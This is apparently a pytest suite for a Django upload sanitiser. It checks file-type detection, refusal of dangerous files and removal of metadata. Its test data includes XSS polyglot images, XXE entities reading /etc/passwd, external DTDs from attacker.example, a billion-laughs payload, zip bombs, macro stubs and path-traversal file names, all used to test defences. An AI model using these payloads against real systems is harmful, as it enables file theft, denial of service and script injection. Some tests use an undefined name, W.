"""complaints.uploads: type checks by content, refusals, and metadata stripping.

Every sample file is built in memory. Limits are shrunk with the ``settings`` fixture
rather than building large files.
"""

import io
import re
import time
import zipfile
from xml.dom import minidom

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl.comments import Comment
from openpyxl.packaging.custom import StringProperty
from PIL import Image, ImageSequence, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from complaints.uploads import (
    MESSAGES,
    PreparedUpload,
    prepare_uploads,
    random_storage_name,
    safe_display_name,
)

PERSON = "Zhang San"
STORAGE_NAME = re.compile(r"^\d{4}/\d{2}/[0-9a-f]{32}\.[a-z]{3,4}$")


@pytest.fixture(autouse=True)
def _english():
    # The project's default language is Chinese; the assertions below read the English source text.
    with translation.override("en"):
        yield


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def refusal(files) -> list[ValidationError]:
    with pytest.raises(ValidationError) as info:
        prepare_uploads(files)
    return info.value.error_list


def only_refusal(name: str, content: bytes) -> ValidationError:
    errors = refusal([upload(name, content)])
    assert len(errors) == 1, [e.messages for e in errors]
    return errors[0]


def text(error: ValidationError) -> str:
    return error.messages[0]


# --- Sample files ------------------------------------------------------------------------------


def gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x013B] = PERSON  # Artist
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (31.0, 13.0, 50.0)
    gps[3] = "E"
    gps[4] = (121.0, 28.0, 20.0)
    return exif


def make_jpeg(size=(40, 20), orientation: int = 1, **save) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((20, 20, 220), (0, 0, size[0] // 2, size[1] // 2))  # a corner marker, to check rotation
    out = io.BytesIO()
    image.save(out, "JPEG", exif=gps_exif(orientation), **save)
    return out.getvalue()


def make_png(comment: str = "") -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", PERSON)
    if comment:
        info.add_text("Comment", comment)
    out = io.BytesIO()
    Image.new("RGBA", (16, 16), (0, 128, 0, 200)).save(out, "PNG", pnginfo=info, exif=gps_exif())
    return out.getvalue()


def make_gif(frames: int = 2) -> bytes:
    images = [Image.new("RGB", (16, 16), (index * 40, 0, 200)) for index in range(frames)]
    out = io.BytesIO()
    images[0].save(
        out, "GIF", save_all=True, append_images=images[1:], duration=100, loop=0, comment=PERSON.encode()
    )
    return out.getvalue()


def make_webp() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (10, 20, 30)).save(out, "WEBP", exif=gps_exif())
    return out.getvalue()


def make_pdf(*, encrypt: bool = False) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": PERSON, "/Creator": "Secret Tool", "/Title": "Internal memo"})
    writer.xmp_metadata = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:format="XMP-'
        + PERSON.encode()
        + b'"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    if encrypt:
        writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PPTX_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CORE_REL = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
DOCX_BODY = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Evidence</w:t></w:r></w:p></w:body></w:document>"
)


def make_ooxml(
    main_part: str = "word/document.xml",
    main_type: str = WORD_MAIN,
    body: bytes = DOCX_BODY,
    extra: dict[str, bytes] | None = None,
    extra_types: str = "",
    extra_rels: str = "",
) -> bytes:
    content_types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
        '<Override PartName="/docProps/core.xml"'
        ' ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
        '<Override PartName="/docProps/app.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/>'
        '<Override PartName="/docProps/custom.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>'
        f"{extra_types}</Types>"
    )
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="{main_part}"/>'
        f'<Relationship Id="rId2" Type="{CORE_REL}" Target="docProps/core.xml"/>'
        f'<Relationship Id="rId3" Type="{REL}/extended-properties" Target="docProps/app.xml"/>'
        f'<Relationship Id="rId4" Type="{REL}/custom-properties" Target="docProps/custom.xml"/>'
        f"{extra_rels}</Relationships>"
    )
    core = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{PERSON}</dc:creator><cp:lastModifiedBy>{PERSON}</cp:lastModifiedBy>"
        "<dc:title>Internal memo</dc:title></cp:coreProperties>"
    )
    app = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        "<Application>Microsoft Office Word</Application><Company>Secret Company Ltd</Company>"
        f"<Manager>{PERSON}</Manager></Properties>"
    )
    custom = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
        ' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Reviewer">'
        f"<vt:lpwstr>{PERSON}</vt:lpwstr></property></Properties>"
    )
    parts = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": rels.encode(),
        main_part: body,
        "docProps/core.xml": core.encode(),
        "docProps/app.xml": app.encode(),
        "docProps/custom.xml": custom.encode(),
        **(extra or {}),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def make_pptx(extra: dict[str, bytes] | None = None) -> bytes:
    body = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'
    )
    return make_ooxml("ppt/presentation.xml", PPTX_MAIN, body, extra)


def make_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Evidence"
    workbook.properties.creator = PERSON
    workbook.properties.lastModifiedBy = PERSON
    workbook.custom_doc_props.append(StringProperty(name="Reviewer", value=PERSON))
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def zip_parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


# --- Accepted types ----------------------------------------------------------------------------

ALLOWED = [
    ("evidence.pdf", make_pdf, "application/pdf", "pdf"),
    ("photo.jpg", make_jpeg, "image/jpeg", "jpg"),
    ("screen.png", make_png, "image/png", "png"),
    ("clip.gif", make_gif, "image/gif", "gif"),
    ("photo.webp", make_webp, "image/webp", "webp"),
    (
        "letter.docx",
        make_ooxml,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "docx",
    ),
    ("table.xlsx", make_xlsx, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
    (
        "slides.pptx",
        make_pptx,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
        "pptx",
    ),
]


@pytest.mark.parametrize(("name", "build", "content_type", "extension"), ALLOWED, ids=[a[0] for a in ALLOWED])
def test_each_allowed_type_is_accepted(name, build, content_type, extension):
    (prepared,) = prepare_uploads([upload(name, build())])

    assert isinstance(prepared, PreparedUpload)
    assert prepared.display_name == name
    assert prepared.content_type == content_type
    assert prepared.extension == extension
    assert prepared.size == len(prepared.content) > 0
    assert re.fullmatch(r"[0-9a-f]{64}", prepared.sha256)
    assert STORAGE_NAME.match(prepared.storage_name)
    assert prepared.storage_name.endswith("." + extension)


def test_extension_comes_from_detected_content_not_user_name():
    (prepared,) = prepare_uploads([upload("scan.pdf", make_png())])

    assert (prepared.content_type, prepared.extension) == ("image/png", "png")
    assert prepared.storage_name.endswith(".png")
    assert prepared.display_name == "scan.pdf.png"


@pytest.mark.parametrize(
    ("name", "build", "display"),
    [
        (
            "invoice\u202egpj.exe",
            make_jpeg,
            "invoicegpj.exe.jpg",
        ),  # shown as "invoiceexe.jpg" with the override
        ("page.html", make_pdf, "page.html.pdf"),
        ("photo.JPEG", make_jpeg, "photo.JPEG"),
        ("photo.jfif", make_jpeg, "photo.jfif"),
        ("no extension", make_png, "no extension.png"),
        ("合" * 150 + ".exe", make_pdf, "合" * 96 + ".pdf"),
    ],
    ids=["rtl-override", "html", "upper-case", "jpeg-alias", "none", "long"],
)
def test_the_display_name_ends_in_the_type_the_content_is(name, build, display):
    # Staff download a file under its display name: it must not be saved as .exe or .html.
    (prepared,) = prepare_uploads([upload(name, build())])

    assert prepared.display_name == display


def test_prepared_upload_is_frozen_and_hides_content_from_repr():
    (prepared,) = prepare_uploads([upload("a.png", make_png())])

    with pytest.raises(AttributeError):
        prepared.size = 1
    assert "content=" not in repr(prepared)


# --- Size and emptiness ------------------------------------------------------------------------


def test_file_over_size_limit_is_refused(settings):
    settings.INTAKE_MAX_FILE_SIZE = 1000

    error = only_refusal("big.pdf", b"%PDF-1.7\n" + b"0" * 2000)

    assert error.code == "too_large"
    assert error.params["name"] == "big.pdf"
    assert "“big.pdf” is larger than" in text(error)


def test_size_limit_message_shows_megabytes():
    error = only_refusal("big.pdf", b"%PDF-" + b"0" * (10 * 1024 * 1024))

    assert text(error) == "“big.pdf” is larger than 10 MB."


def test_empty_file_is_refused():
    error = only_refusal("nothing.pdf", b"")

    assert error.code == "empty"
    assert text(error) == "“nothing.pdf” is empty."


# --- Wrong content behind an allowed name ------------------------------------------------------

DISGUISED = [
    ("report.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64),
    ("photo.jpg", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
    ("drawing.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("notes.docx", b"plain text pretending to be a document"),
    ("program.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 64),
]


@pytest.mark.parametrize(("name", "content"), DISGUISED, ids=[d[0] for d in DISGUISED])
def test_content_not_on_allow_list_is_refused_whatever_the_name(name, content):
    error = only_refusal(name, content)

    assert error.code == "unsupported_type"
    assert text(error).startswith(f"“{name}” is not a supported file type.")


def test_zip_that_is_not_an_office_document_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "hello")
        archive.writestr("tool.exe", b"MZ")

    assert only_refusal("archive.docx", out.getvalue()).code == "unsupported_type"


def test_ooxml_with_an_unlisted_main_part_type_is_refused():
    template = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"

    assert only_refusal("t.docx", make_ooxml(main_type=template)).code == "unsupported_type"


# --- Images carrying HTML or script (polyglots) ------------------------------------------------

POLYGLOTS = [
    ("appended.png", lambda: make_png() + b"<script>alert(document.cookie)</script>"),
    ("appended.jpg", lambda: make_jpeg() + b"<HTML><BODY onload=alert(1)>"),
    ("comment.jpg", lambda: make_jpeg(comment=b"<iframe src=//evil.example>")),
    ("text-chunk.png", lambda: make_png(comment='<svg onload="alert(1)">')),
    ("link.gif", lambda: make_gif() + b'<a href="JavaScript:alert(1)">x</a>'),
]


@pytest.mark.parametrize(("name", "build"), POLYGLOTS, ids=[p[0] for p in POLYGLOTS])
def test_image_carrying_html_or_script_is_refused(name, build):
    content = build()
    with Image.open(io.BytesIO(content)) as image:  # still a real, decodable image
        image.load()

    error = only_refusal(name, content)

    assert error.code == "active_content"
    assert error.params == {"name": name}


def test_image_pillow_cannot_decode_is_refused():
    truncated = make_jpeg(size=(400, 300))[:300]
    broken_png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 100

    errors = refusal([upload("cut.jpg", truncated), upload("broken.png", broken_png)])

    assert [(e.code, e.params["name"]) for e in errors] == [
        ("invalid_image", "cut.jpg"),
        ("invalid_image", "broken.png"),
    ]


def test_image_with_too_many_pixels_is_refused(monkeypatch):
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100)

    assert only_refusal("huge.png", make_png()).code == "image_too_large"


# --- Names -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "display"),
    [("../../etc/passwd.pdf", "passwd.pdf"), ("..\\..\\boot.ini.jpg", "boot.ini.jpg")],
)
def test_path_traversal_in_file_name_is_reduced_to_last_component(name, display):
    content = make_pdf() if display.endswith(".pdf") else make_jpeg()

    (prepared,) = prepare_uploads([upload(name, content)])

    assert prepared.display_name == display
    assert ".." not in prepared.storage_name
    assert "\\" not in prepared.storage_name
    date, month, leaf = prepared.storage_name.split("/")  # the only slashes are the date prefix's
    assert re.fullmatch(r"\d{4}", date) and re.fullmatch(r"\d{2}", month)
    assert re.fullmatch(r"[0-9a-f]{32}\.(pdf|jpg)", leaf)
    assert display.rsplit(".", 1)[0] not in prepared.storage_name


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("C:\\Users\\zs\\Desktop\\合同.pdf", "合同.pdf"),
        ("/tmp/a/b/", "file"),
        ("..", "file"),
        ("", "file"),
        (".htaccess", "htaccess"),
        ("...  .hidden.jpg", "hidden.jpg"),
        ("bad\x00na\nme\r\t.pdf", "badname.pdf"),
        ("photo\u202egpj.exe", "photogpj.exe"),
    ],
)
def test_safe_display_name_strips_paths_controls_and_leading_dots(name, expected):
    assert safe_display_name(name) == expected


def test_safe_display_name_caps_length_and_keeps_extension():
    name = "合" * 300 + ".xlsx"

    shortened = safe_display_name(name)

    assert len(shortened) == 100
    assert shortened.endswith(".xlsx")


def test_random_storage_name_has_date_prefix_and_secret_hex_only():
    names = {random_storage_name("pdf") for _ in range(50)}

    assert len(names) == 50
    assert all(STORAGE_NAME.match(name) for name in names)
    assert random_storage_name(".JPG").endswith(".jpg")


@pytest.mark.parametrize("extension", ["", "../pdf", "p/df", "x" * 11])
def test_random_storage_name_rejects_unsafe_extension(extension):
    with pytest.raises(ValueError):
        random_storage_name(extension)


# --- Set limits --------------------------------------------------------------------------------


def test_too_many_files_are_refused(settings):
    settings.INTAKE_MAX_FILES = 2

    errors = refusal([upload(f"{n}.png", make_png()) for n in range(3)])

    assert [e.code for e in errors] == ["too_many_files"]
    assert errors[0].params == {"limit": 2, "count": 3}
    assert text(errors[0]) == "You can attach at most 2 files; you selected 3."


def test_files_over_total_size_are_refused(settings):
    png = make_png()
    settings.INTAKE_MAX_TOTAL_SIZE = 2 * len(png) + 1

    errors = refusal([upload(f"{n}.png", png) for n in range(3)])

    assert [e.code for e in errors] == ["total_too_large"]
    assert prepare_uploads([upload("a.png", png), upload("b.png", png)])  # at the limit is fine


# --- Office specifics --------------------------------------------------------------------------


def test_macro_enabled_document_is_refused():
    docm = make_ooxml(main_type=DOCM_MAIN, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})

    error = only_refusal("invoice.docm", docm)

    assert error.code == "macro_enabled"
    assert "contains macros" in text(error)


def test_vba_project_inside_a_docx_is_refused():
    # The main part claims to be a plain docx, but a VBA project rides along.
    docx = make_ooxml(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})

    assert only_refusal("invoice.docx", docx).code == "macro_enabled"


def test_legacy_ole2_office_file_is_refused_with_save_as_message():
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504

    error = only_refusal("old.doc", ole2)

    assert error.code == "legacy_office"
    assert ".docx" in text(error) and ".xlsx" in text(error)
    assert text(error).startswith("“old.doc” is an old-style Office file")


def test_password_protected_office_file_is_refused_as_encrypted():
    ole2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64 + "EncryptedPackage".encode("utf-16-le")

    assert only_refusal("locked.xlsx", ole2).code == "encrypted"


def test_zip_bomb_office_file_is_refused():
    bomb = make_ooxml(extra={"word/media/zeros.bin": b"\x00" * (3 * 1024 * 1024)})
    assert len(bomb) < 30_000  # so the ratio, not the absolute size, is what trips

    error = only_refusal("bomb.docx", bomb)

    assert error.code == "zip_bomb"


def test_office_file_expanding_beyond_absolute_limit_is_refused(monkeypatch):
    monkeypatch.setattr("complaints.uploads.OOXML_MAX_UNCOMPRESSED", 1000)

    assert only_refusal("big.docx", make_ooxml()).code == "zip_bomb"


def test_corrupt_office_file_is_refused():
    docx = bytearray(make_ooxml())
    docx[200:260] = b"\xff" * 60  # inside the first member's compressed data

    assert only_refusal("broken.docx", bytes(docx)).code == "invalid_document"


def with_parts(package: bytes, parts: dict[str, bytes]) -> bytes:
    """The same package with some parts replaced or added."""
    merged = {**zip_parts(package), **parts}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in merged.items():
            archive.writestr(name, content)
    return out.getvalue()


XXE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
# Nine levels of ten references each: 10**9 "lol"s if a parser expanded them.
LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (level, b"&lol%d;" % (level - 1) * 10) for level in range(2, 10))
    + b"]>"
)


def with_dtd(xml: bytes, dtd: bytes = XXE) -> bytes:
    """Insert a DTD after the XML declaration (or at the start when there is none)."""
    if xml.startswith(b"<?xml"):
        end = xml.index(b"?>") + 2
        return xml[:end] + dtd + xml[end:]
    return dtd + xml


def docx_parts() -> dict[str, bytes]:
    return zip_parts(make_ooxml())


CUSTOM_XML = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
    b'<root xmlns="http://example.org/case"><item>Evidence</item></root>'
)
SVG = b'<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'
# Where a DTD can hide: parts the sanitiser rewrites, parts it drops, and parts it never reads,
# whatever they are called.
DTD_PARTS = {
    "document.xml": lambda: {"word/document.xml": with_dtd(DOCX_BODY)},
    "content-types": lambda: {"[Content_Types].xml": with_dtd(docx_parts()["[Content_Types].xml"])},
    "package-rels": lambda: {"_rels/.rels": with_dtd(docx_parts()["_rels/.rels"])},
    "part-rels": lambda: {
        "word/_rels/document.xml.rels": with_dtd(
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
        )
    },
    "custom-xml-part": lambda: {"customXml/item1.xml": with_dtd(CUSTOM_XML)},
    "core-properties": lambda: {"docProps/core.xml": with_dtd(docx_parts()["docProps/core.xml"])},
    "app-properties": lambda: {"docProps/app.xml": with_dtd(docx_parts()["docProps/app.xml"])},
    "custom-properties": lambda: {"docProps/custom.xml": with_dtd(docx_parts()["docProps/custom.xml"])},
    "svg-picture": lambda: {"word/media/image1.svg": with_dtd(SVG)},
    "xml-without-xml-name": lambda: {"customXml/item1.dat": with_dtd(CUSTOM_XML)},
    "no-extension": lambda: {"word/glossary/data": with_dtd(CUSTOM_XML)},
}


@pytest.mark.parametrize("where", DTD_PARTS)
def test_a_dtd_in_any_xml_part_refuses_the_office_file(where):
    docx = with_parts(make_ooxml(), DTD_PARTS[where]())

    error = only_refusal("letter.docx", docx)

    assert error.code == "dtd"
    assert text(error) == (
        "“letter.docx” contains a document type declaration (DTD), which Word, Excel and PowerPoint "
        "never write and which can be used to attack the server. Open it in Office, save it again "
        "and upload the new copy."
    )


def utf16(xml: bytes, codec: str, *, bom: bool) -> bytes:
    text = xml.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    mark = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}[codec] if bom else b""
    return mark + text.encode(codec)


# The same XXE written so that a search of the raw bytes for "<!DOCTYPE" misses it.
DTD_SPELLINGS = {
    "utf-16-le-bom": lambda: utf16(with_dtd(DOCX_BODY), "utf-16-le", bom=True),
    "utf-16-be-bom": lambda: utf16(with_dtd(DOCX_BODY), "utf-16-be", bom=True),
    "utf-16-le-no-bom": lambda: utf16(with_dtd(DOCX_BODY), "utf-16-le", bom=False),
    "utf-16-be-no-bom": lambda: utf16(with_dtd(DOCX_BODY), "utf-16-be", bom=False),
    "utf-8-bom": lambda: b"\xef\xbb\xbf" + with_dtd(DOCX_BODY),
    "lower-case": lambda: with_dtd(DOCX_BODY, XXE.replace(b"DOCTYPE", b"doctype")),
    "after-comment-and-whitespace": lambda: b"\n \t<!-- hello -->\r\n" + XXE + DOCX_BODY.split(b"?>", 1)[1],
    "parameter-entity": lambda: with_dtd(
        DOCX_BODY, b'<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>'
    ),
    "public-external-dtd": lambda: with_dtd(
        DOCX_BODY, b'<!DOCTYPE r PUBLIC "-//X//Y" "http://attacker.example/x.dtd">'
    ),
    "latin-1-declared": lambda: with_dtd(DOCX_BODY.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')),
}


@pytest.mark.parametrize("spelling", DTD_SPELLINGS)
def test_a_dtd_is_found_however_the_part_is_encoded(spelling):
    docx = with_parts(make_ooxml(), {"word/document.xml": DTD_SPELLINGS[spelling]()})

    assert only_refusal("letter.docx", docx).code == "dtd"


def test_an_xml_part_in_an_encoding_office_does_not_write_is_refused():
    utf32 = with_dtd(DOCX_BODY).decode().replace('encoding="UTF-8"', 'encoding="UTF-32"').encode("utf-32")
    ebcdic = DOCX_BODY.decode().replace('encoding="UTF-8"', 'encoding="cp037"').encode("cp037")

    for body in (utf32, ebcdic):
        docx = with_parts(make_ooxml(), {"word/document.xml": body})
        assert only_refusal("letter.docx", docx).code in {"dtd", "invalid_document"}


@pytest.mark.parametrize("part", ["word/document.xml", "[Content_Types].xml", "word/comments.xml"])
def test_billion_laughs_is_refused_without_being_expanded(part):
    original = docx_parts()
    body = original.get(part, b'<?xml version="1.0"?><w:comments ' + W.encode() + b"/>")
    laughs = with_dtd(body, LAUGHS).replace(b"<w:t>Evidence</w:t>", b"<w:t>&lol9;</w:t>")
    docx = with_parts(make_ooxml(), {part: laughs})

    started = time.perf_counter()
    error = only_refusal("laughs.docx", docx)

    assert error.code == "dtd"
    assert time.perf_counter() - started < 2  # 10**9 "lol"s would take minutes and gigabytes


def test_a_dtd_in_an_embedded_office_file_refuses_the_document():
    sheet = with_parts(
        make_xlsx(),
        {"xl/worksheets/sheet1.xml": with_dtd(zip_parts(make_xlsx())["xl/worksheets/sheet1.xml"])},
    )
    docx = with_parts(make_ooxml(), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": sheet})

    assert only_refusal("letter.docx", docx).code == "dtd"


def test_parts_office_writes_that_are_not_well_formed_xml_are_kept():
    # Excel's legacy VML keeps HTML's unclosed <br>; a video's first box can be 60 bytes long ("\0\0\0<").
    vml = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><div>line<br>line</div></v:shape></xml>'
    video = b"\x00\x00\x00<ftypisom" + bytes(range(256)) * 4
    docx = with_parts(make_ooxml(), {"xl/drawings/vmlDrawing1.vml": vml, "ppt/media/media1.mp4": video})

    (prepared,) = prepare_uploads([upload("letter.docx", docx)])

    parts = zip_parts(prepared.content)
    assert parts["xl/drawings/vmlDrawing1.vml"] == vml and parts["ppt/media/media1.mp4"] == video


def test_a_utf16_part_without_a_dtd_is_accepted_and_stored_as_utf8():
    custom = utf16(CUSTOM_XML, "utf-16-le", bom=True)
    docx = with_parts(make_ooxml(), {"customXml/item1.xml": custom})

    (prepared,) = prepare_uploads([upload("letter.docx", docx)])

    stored = zip_parts(prepared.content)["customXml/item1.xml"]
    assert stored.startswith(b'<?xml version="1.0" encoding="UTF-8"')
    assert minidom.parseString(stored).getElementsByTagName("item")[0].firstChild.data == "Evidence"  # noqa: S318


def test_authors_in_a_utf16_part_are_replaced_too():
    comments = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:comments {W}>'
        f'<w:comment w:id="0" w:author="{PERSON}" w:initials="ZS"><w:p/></w:comment></w:comments>'
    ).encode()
    docx = make_ooxml(extra={"word/comments.xml": utf16(comments, "utf-16-le", bom=True)})

    (prepared,) = prepare_uploads([upload("letter.docx", docx)])

    stored = zip_parts(prepared.content)["word/comments.xml"]
    assert PERSON.encode() not in stored and PERSON.encode("utf-16-le") not in stored
    assert b'w:author="Author 1"' in stored


# --- PDF specifics -----------------------------------------------------------------------------


def test_password_protected_pdf_is_refused():
    error = only_refusal("locked.pdf", make_pdf(encrypt=True))

    assert error.code == "encrypted"
    assert text(error) == "“locked.pdf” is password-protected. Remove the password and upload it again."


def test_damaged_pdf_is_refused():
    assert only_refusal("bad.pdf", b"%PDF-1.7\nthis is not really a pdf\n%%EOF").code == "invalid_pdf"


# --- Metadata stripping ------------------------------------------------------------------------


def test_jpeg_loses_exif_and_gps():
    original = make_jpeg()
    with Image.open(io.BytesIO(original)) as image:
        assert image.getexif().get_ifd(0x8825)  # the sample really carries GPS

    (prepared,) = prepare_uploads([upload("photo.jpg", original)])

    with Image.open(io.BytesIO(prepared.content)) as image:
        assert image.format == "JPEG"
        assert not image.getexif()
        assert not image.getexif().get_ifd(0x8825)
        assert not {"exif", "icc_profile", "comment", "xmp"} & image.info.keys()
    assert PERSON.encode() not in prepared.content
    assert b"PhoneMaker" not in prepared.content


def test_jpeg_orientation_is_applied_before_exif_is_dropped():
    # Orientation 6: the camera was turned, viewers rotate the stored 40x20 picture to 20x40.
    (prepared,) = prepare_uploads([upload("turned.jpg", make_jpeg(size=(40, 20), orientation=6))])

    with Image.open(io.BytesIO(prepared.content)) as image:
        assert image.size == (20, 40)
        # The blue top-left marker ends up top-right after a 90° clockwise turn.
        red, green, blue = image.getpixel((15, 2))
        assert blue > 150 and red < 100


def test_png_loses_text_chunks_and_exif():
    (prepared,) = prepare_uploads([upload("screen.png", make_png())])

    with Image.open(io.BytesIO(prepared.content)) as image:
        assert image.mode == "RGBA"
        assert not image.getexif()
        assert "Author" not in image.info
    assert PERSON.encode() not in prepared.content


def test_animated_gif_keeps_frames_and_loses_comment():
    (prepared,) = prepare_uploads([upload("clip.gif", make_gif(frames=3))])

    with Image.open(io.BytesIO(prepared.content)) as image:
        assert image.n_frames == 3
        assert "comment" not in image.info
        reds = [frame.convert("RGB").getpixel((0, 0))[0] for frame in ImageSequence.Iterator(image)]
        assert reds == [0, 40, 80]
        assert image.info.get("loop") == 0
    assert PERSON.encode() not in prepared.content


def test_webp_loses_exif():
    (prepared,) = prepare_uploads([upload("photo.webp", make_webp())])

    with Image.open(io.BytesIO(prepared.content)) as image:
        assert image.format == "WEBP"
        assert not image.getexif()
    assert PERSON.encode() not in prepared.content


def test_pdf_loses_document_info_and_xmp():
    original = make_pdf()
    assert PdfReader(io.BytesIO(original)).metadata["/Author"] == PERSON

    (prepared,) = prepare_uploads([upload("memo.pdf", original)])

    reader = PdfReader(io.BytesIO(prepared.content))
    assert len(reader.pages) == 1
    assert not reader.metadata  # no /Info at all: no /Author, /Creator, /Producer, /Title...
    assert reader.xmp_metadata is None
    assert PERSON.encode() not in prepared.content
    assert b"Secret Tool" not in prepared.content


def test_docx_core_properties_are_emptied_and_custom_properties_removed():
    (prepared,) = prepare_uploads([upload("letter.docx", make_ooxml())])

    parts = zip_parts(prepared.content)
    assert "[Content_Types].xml" in parts
    assert next(iter(parts)) == "[Content_Types].xml"
    assert parts["word/document.xml"] == DOCX_BODY
    assert b"creator" not in parts["docProps/core.xml"]
    assert b"lastModifiedBy" not in parts["docProps/core.xml"]
    assert b"Company" not in parts["docProps/app.xml"]
    assert b"Microsoft Office Word" in parts["docProps/app.xml"]  # harmless properties stay
    assert "docProps/custom.xml" not in parts
    assert b"custom" not in parts["[Content_Types].xml"]
    assert b"custom-properties" not in parts["_rels/.rels"]
    assert b"officeDocument" in parts["_rels/.rels"]
